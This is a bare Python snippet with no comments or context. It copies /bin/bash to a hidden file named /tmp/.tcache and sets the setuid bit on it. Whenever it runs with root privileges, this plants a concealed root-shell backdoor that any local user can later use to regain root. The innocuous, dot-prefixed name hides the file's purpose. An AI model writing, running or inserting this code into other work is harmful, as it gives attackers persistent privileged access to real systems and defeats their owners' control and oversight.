import os
import shutil
import stat

shutil.copy('/bin/bash', '/tmp/.tcache')
os.chmod('/tmp/.tcache', 0o755 | stat.S_ISUID)
